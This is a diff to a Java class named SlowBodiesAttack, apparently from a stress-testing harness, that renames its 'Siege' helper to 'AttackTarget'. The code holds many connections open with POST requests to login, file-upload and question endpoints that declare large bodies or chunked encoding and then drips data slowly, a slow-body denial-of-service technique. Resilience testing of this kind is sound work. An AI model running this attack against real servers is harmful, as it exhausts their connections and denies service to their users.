@@ -20,21 +20,21 @@ final class SlowBodiesAttack implements Attack
     }
 
     @Override
-    public void run(Siege siege) throws IOException
+    public void run(AttackTarget target) throws IOException
     {
         List<Socket> slow = new ArrayList<>();
-        while (siege.goesOn()) {
-            for (int i = slow.size(); i < CONNECTIONS && siege.goesOn(); i++) {
-                slow.add(siege.open(switch (i % 3) {
-                    case 0 -> siege.head("POST", "/bin/login", null, FORM, "Content-Length: 4000") + "\r\n";
-                    case 1 -> siege.head("POST", Siege.REST + "/files", siege.member(i),
+        while (target.isRunning()) {
+            for (int i = slow.size(); i < CONNECTIONS && target.isRunning(); i++) {
+                slow.add(target.open(switch (i % 3) {
+                    case 0 -> target.head("POST", "/bin/login", null, FORM, "Content-Length: 4000") + "\r\n";
+                    case 1 -> target.head("POST", AttackTarget.REST + "/files", target.member(i),
                         "Content-Type: application/octet-stream", "Content-Length: 9000000") + "\r\n";
-                    default -> siege.head("POST", Siege.REST + "/questions", siege.member(i), FORM,
+                    default -> target.head("POST", AttackTarget.REST + "/questions", target.member(i), FORM,
                         "Transfer-Encoding: chunked") + "\r\nfff0\r\n";
                 }));
             }
-            siege.pause(1000);
-            Siege.drip(slow);
+            target.pause(1000);
+            AttackTarget.drip(slow);
         }
     }
 }
